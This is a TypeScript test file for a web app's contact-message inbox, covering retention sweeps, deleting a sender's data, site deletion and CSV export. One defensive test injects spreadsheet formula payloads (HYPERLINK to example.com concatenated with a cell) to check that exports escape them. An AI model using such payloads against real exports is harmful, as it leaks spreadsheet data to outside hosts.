import { env } from 'cloudflare:workers'
import { beforeEach, describe, expect, it } from 'vitest'
import { sweep } from '../../../worker/cron/sweep.ts'
import { deleteOutlived, deleteSpamBefore } from '../../../worker/messages/rows.ts'
import type { MessageList } from '../../../worker/messages/schema.ts'
import { openDatabase } from '../../../worker/platform/db/database.ts'
import { removeReleases } from '../../../worker/publishing/remove-releases.ts'
import { deleteDraft, unpublish } from '../../../worker/publishing/take-down.ts'
import { codeOf } from '../../harness/workers/accounts/account.ts'
import { Browser, limitOf } from '../../harness/workers/accounts/browser.ts'
import { countedViews, countView } from '../../harness/workers/accounts/deletions.ts'
import { faultyD1 } from '../../harness/workers/faults/faulty-stores.ts'
import {
  inboxRowsOf,
  messageRow,
  newConversation,
  newInbox,
  newMessage,
  newMessages,
  storedMessage,
} from '../../harness/workers/messages/messages.ts'
import { contextOf, idOf, newHandle, newSite, publish, siteEnv } from '../../harness/workers/sites/sites.ts'
import { schema } from '../../harness/workers/tables.ts'

const at = new Date('2026-05-31T12:00:00Z')
const day = 24 * 60 * 60 * 1000

const ago = (ms: number) => new Date(at.getTime() - ms)

const db = openDatabase(env.DB)

let of: { userId: string; draftId: string }

const keep = (keepMonths: number | null) =>
  db.insert(schema.inboxSettings).values({ ...of, notify: 'at-once', timeZone: 'UTC', keepMonths })
const left = async (ids: Record<string, string>) => {
  const found = await Promise.all(
    Object.entries(ids).map(async ([name, id]) => ((await storedMessage(id)) ? [name] : [])),
  )
  return found.flat()
}

describe('message retention', () => {
  beforeEach(async () => {
    of = idOf(await newSite())
  })

  it.each([
    [3, '2026-02-28T12:00:00Z'],
    [6, '2025-11-30T12:00:00Z'],
    [12, '2025-05-31T12:00:00Z'],
    [24, '2024-05-31T12:00:00Z'],
  ])('ends after %i months in every folder', async (months, since) => {
    await keep(months)
    const ids: Record<string, string> = {}
    for (const folder of ['inbox', 'archive'] as const) {
      ids[`old ${folder}`] = (await newMessage(of, { folder, createdAt: new Date(Date.parse(since) - 1) })).id
      ids[`young ${folder}`] = (await newMessage(of, { folder, createdAt: new Date(since) })).id
    }
    await sweep(contextOf(env, () => at))
    expect(await left(ids)).toEqual(['young inbox', 'young archive'])
  })

  it('lasts forever by default, and follows each website’s own setting', async () => {
    const unset = await newMessage(of, { createdAt: new Date(0) })
    of = idOf(await newSite())
    await keep(null)
    const forEver = await newMessage(of, { createdAt: new Date(0) })
    of = idOf(await newSite())
    await keep(3)
    const short = await newMessage(of, { createdAt: new Date(0) })
    await sweep(contextOf(env, () => at))
    expect(await left({ unset: unset.id, forEver: forEver.id, short: short.id })).toEqual(['unset', 'forEver'])
  })

  it('ends for spam 30 days after it arrived, was moved to spam, or was last read', async () => {
    const spam = (createdAt: Date, readAt: Date | null = null) => newMessage(of, { folder: 'spam', createdAt, readAt })
    const ids = {
      old: (await spam(ago(30 * day + 1))).id,
      young: (await spam(ago(30 * day))).id,
      moved: (await spam(ago(300 * day), ago(29 * day))).id,
      movedLongAgo: (await spam(ago(300 * day), ago(31 * day))).id,
      archived: (await newMessage(of, { folder: 'archive', createdAt: ago(300 * day) })).id,
    }
    await sweep(contextOf(env, () => at))
    expect(await left(ids)).toEqual(['young', 'moved', 'archived'])
  })

  it('covers replies and queued emails', async () => {
    await newConversation(of, { createdAt: ago(3_000 * day) })
    const kept = await newConversation(of, { createdAt: ago(day) })
    await sweep(contextOf(env, () => at))
    expect(await inboxRowsOf(of.userId)).toEqual({ messages: 1, replies: 1, settings: 1, mails: 4 })
    expect(await left({ kept: kept.id })).toEqual(['kept'])
  })

  it('deletes a bounded number of messages in each run', async () => {
    await keep(3)
    const old = { createdAt: new Date(0) }
    await newMessages([
      ...Array.from({ length: 25 }, () => messageRow(of, old)),
      ...Array.from({ length: 15 }, () => messageRow(of, { folder: 'spam', createdAt: ago(31 * day) })),
    ])
    const stored = async (folder: string) =>
      env.DB.prepare('select count(*) as count from customer_contact_forms where user_id = ? and folder = ?')
        .bind(of.userId, folder)
        .first<number>('count')
    const leftAfter = async () => {
      await db.batch([deleteOutlived(db, { at, limit: 10 }), deleteSpamBefore(db, ago(30 * day), { limit: 10 })])
      return [await stored('inbox'), await stored('spam')]
    }
    expect([await leftAfter(), await leftAfter(), await leftAfter(), await leftAfter()]).toEqual([
      ...[
        [15, 5],
        [5, 0],
        [0, 0],
        [0, 0],
      ],
    ])
  })
})

describe('forgetting a visitor', () => {
  it('deletes everything that the visitor sent to the owner’s websites', async () => {
    const { browser, userId, draftIds } = await newInbox(2)
    const [draftId = '', second = ''] = draftIds
    const of = { userId, draftId }
    const row = await newConversation(of, { email: 'Visitor@Example.com' })
    await newConversation({ userId, draftId: second }, { email: 'visitor@example.com', folder: 'archive' })
    await newMessage(of, { email: 'visitor@example.com', folder: 'spam' })
    const kept = await newMessage(of, { email: 'visitor@example.community', phone: '+43 660 12345' })
    const other = await newInbox()
    await newConversation(other.of, { email: 'visitor@example.com' })
    const response = await browser.post(`/api/messages/${row.id}/forget-sender`)
    expect([response.status, response.body]).toEqual([200, { changed: 3 }])
    expect(((await browser.get('/api/messages')).body as MessageList).messages.map(({ id }) => id)).toEqual([kept.id])
    // Queued digests name no visitor; they are filled in when sent.
    const digests = 2
    expect(await inboxRowsOf(userId)).toEqual({ messages: 1, replies: 0, settings: 2, mails: digests })
    expect(await inboxRowsOf(other.userId)).toEqual({ messages: 1, replies: 1, settings: 1, mails: 3 })
    expect(codeOf(await browser.post(`/api/messages/${row.id}/forget-sender`))).toBe('not_found')
  })

  it('matches by email address, else phone number, else message', async () => {
    const { browser, userId, of } = await newInbox()
    const by = (phone: string) => newMessage(of, { email: '', phone })
    const row = await by('+43 660 12345')
    await by('0043-660-12345')
    const [none, short] = [await by(''), await by('1')]
    await by('')
    await by('1')
    expect((await browser.post(`/api/messages/${row.id}/forget-sender`)).body).toEqual({ changed: 2 })
    expect((await browser.post(`/api/messages/${none.id}/forget-sender`)).body).toEqual({ changed: 1 })
    expect((await browser.post(`/api/messages/${short.id}/forget-sender`)).body).toEqual({ changed: 1 })
    expect(await inboxRowsOf(userId)).toMatchObject({ messages: 2 })
  })

  it('doesn’t delete other messages; deleting single messages removes their replies and emails', async () => {
    const { browser, userId, of } = await newInbox()
    const row = await newConversation(of)
    await newConversation(of)
    expect((await browser.post('/api/messages/delete', { ids: [row.id] })).body).toEqual({ changed: 1 })
    expect(await inboxRowsOf(userId)).toEqual({ messages: 1, replies: 1, settings: 1, mails: 4 })
  })
})

async function busySite() {
  const site = await newSite()
  await publish(site, newHandle())
  await newConversation(idOf(site))
  await countView(idOf(site).draftId)
  return site
}
const everything = { messages: 1, replies: 1, settings: 1, mails: 4 }
const nothing = { messages: 0, replies: 0, settings: 0, mails: 0 }
const noCounter = siteEnv({
  VISITS: {
    getByName: () => ({ forget: () => Promise.reject(new Error('no counter today')) }),
  } as unknown as typeof env.VISITS, // a stub: only forget is called
})

describe('deleting a website with messages', () => {
  it('removes its messages, settings, queued emails and numbers, and no other website’s', async () => {
    const [site, other] = [await busySite(), await busySite()]
    await deleteDraft(contextOf(), idOf(site))
    expect(await inboxRowsOf(site.userId)).toEqual(nothing)
    expect(await countedViews(idOf(site).draftId)).toBe(0)
    expect(await inboxRowsOf(other.userId)).toEqual(everything)
    expect(await countedViews(idOf(other).draftId)).toBe(1)
  })

  it('responds with 404 for another person’s website', async () => {
    const [site, other] = [await busySite(), await newSite()]
    const foreign = { userId: other.userId, draftId: idOf(site).draftId }
    await expect(deleteDraft(contextOf(), foreign)).rejects.toMatchObject({ code: 'not_found' })
    expect(await inboxRowsOf(site.userId)).toEqual(everything)
    expect(await countedViews(idOf(site).draftId)).toBe(1)
  })

  it('removes everything or nothing when the database fails', async () => {
    const site = await busySite()
    const fault = ({ query }: { query: string }) => (/delete from "inbox_settings"/.test(query) ? 'throws' : undefined)
    const failing = contextOf(siteEnv({ DB: faultyD1(env.DB, fault) }))
    await expect(deleteDraft(failing, idOf(site))).rejects.toThrow()
    expect(await inboxRowsOf(site.userId)).toEqual(everything)
    await deleteDraft(contextOf(), idOf(site))
    expect(await inboxRowsOf(site.userId)).toEqual(nothing)
  })

  it('removes the numbers later when their store fails', async () => {
    const site = await busySite()
    const { draftId } = idOf(site)
    await deleteDraft(contextOf(noCounter), idOf(site))
    expect(await inboxRowsOf(site.userId)).toEqual(nothing)
    expect(await countedViews(draftId)).toBe(1)
    expect(await removeReleases(contextOf(noCounter), draftId)).toEqual({ removed: 0, failed: 1 })
    expect(await removeReleases(contextOf(), draftId)).toEqual({ removed: 1, failed: 0 })
    expect(await countedViews(draftId)).toBe(0)
  })

  it('differs from taking the website offline, which keeps everything', async () => {
    const site = await busySite()
    await unpublish(contextOf(), idOf(site))
    await removeReleases(
      contextOf(siteEnv(), () => new Date(Date.now() + 30 * 24 * 60 * 60 * 1000)),
      idOf(site).draftId,
    )
    expect(await inboxRowsOf(site.userId)).toEqual(everything)
    expect(await countedViews(idOf(site).draftId)).toBe(1)
  })
})

/** Parses CSV as a spreadsheet does: every cell is quoted. */
function cellsOf(csv: string): string[][] {
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y
  const rows: string[][] = [[]]
  for (let match = cell.exec(csv); match; match = cell.exec(csv)) {
    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'))
    if (match[2] !== ',') rows.push([])
    if (cell.lastIndex === csv.length) return rows.slice(0, -1)
  }
  throw new Error('not CSV as it should be')
}

async function download(browser: Browser, query = '') {
  const response = await browser.fetch(`/api/messages/export${query}`)
  expect(response.status).toBe(200)
  const bytes = new Uint8Array(await response.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [header = [], ...rows] = cellsOf(new TextDecoder().decode(bytes))
  return { headers: response.headers, header, rows }
}

describe('exporting messages', () => {
  it('includes every field of every message, for one website or all websites', async () => {
    const { browser, userId, draftIds } = await newInbox(2)
    const [draftId = '', second = ''] = draftIds
    const message = 'He said: "Drip, drop"\r\nand\n\n;then; 💧'
    const createdAt = new Date('2026-11-22T10:00:00.123Z')
    const full = { name: 'Müller, Jürgen', phone: '0660 1', message, preferredTime: '2026-11-30T14:30', createdAt }
    await newMessage({ userId, draftId }, { ...full, readAt: new Date('2026-11-22T11:00:00Z') })
    await newMessage({ userId, draftId: second }, { folder: 'spam', spamReasons: '["links","words"]' })
    const other = await newInbox()
    await newMessage(other.of, { name: 'foreign' })
    const { headers, header, rows } = await download(browser)
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('content-disposition')).toBe('attachment; filename="messages.csv"')
    expect(headers.get('cache-control')).toBe('no-store')
    expect(header).toEqual([
      ...['Received', 'Website', 'Folder', 'Name', 'Email', 'Phone', 'Preferred time', 'Message', 'Other answers'],
      ...['Photos', 'Language', 'Sent from', 'Read', 'Replied', 'Kept apart because of'],
    ])
    expect(rows).toHaveLength(2)
    expect(rows[0]).toEqual([
      ...['2026-11-22T10:00:00.123Z', 'Website 0', 'inbox', 'Müller, Jürgen', 'grace@example.com', '0660 1'],
      ...['2026-11-30T14:30', message, '', '0', 'en', 'ada.localhost', '2026-11-22T11:00:00.000Z', 'no', ''],
    ])
    expect(rows[1]?.at(-1)).toBe('links, words')
    expect((await download(browser, `?draftId=${second}`)).rows).toHaveLength(1)
    expect((await download(browser, `?draftId=${other.draftId}`)).rows).toEqual([])
  })

  it('consists of a header row without messages', async () => {
    const { browser } = await newInbox()
    const { header, rows } = await download(browser)
    expect([header.length, rows]).toEqual([15, []])
  })

  // ASVS 1.3.3
  it('escapes every cell that a spreadsheet would run as a formula', async () => {
    const { browser, of } = await newInbox()
    const begins = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
    for (const begin of begins) {
      const text = `${begin}HYPERLINK("https://example.com/"&A1)`
      await newMessage(of, { name: text, phone: text, message: text, email: `${begin}a@example.com` })
    }
    const { rows } = await download(browser)
    expect(rows).toHaveLength(begins.length)
    const marked = rows.flat().filter((cell) => cell.startsWith("'"))
    expect(marked).toHaveLength(begins.length * 4)
    expect(new Set(marked.map((cell) => cell[1]))).toEqual(new Set(begins))
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  })

  it('includes each of thousands of messages once', async () => {
    const { browser, of } = await newInbox()
    const moments = [new Date('2026-01-01T00:00:00Z'), new Date('2026-01-02T00:00:00Z')]
    const folders = ['inbox', 'archive', 'spam'] as const
    const rows = Array.from({ length: 1_501 }, (_, index) =>
      messageRow(of, {
        name: `n${index}`,
        createdAt: moments[index % 2] as Date,
        folder: folders[index % 3] as 'inbox',
      }),
    )
    await newMessages(rows)
    const names = (await download(browser)).rows.map((row) => row[3])
    expect(names).toHaveLength(1_501)
    expect(new Set(names)).toEqual(new Set(rows.map(({ name }) => name)))
  })

  it('fails with 429 beyond its limit', async () => {
    const { browser } = await newInbox()
    const limited = new Browser({ COSTLY_LIMIT: limitOf(1) })
    for (const [name, value] of browser.cookies) limited.cookies.set(name, value)
    await download(limited)
    expect(codeOf(await limited.get('/api/messages/export'))).toBe('too_many_requests')
  })
})
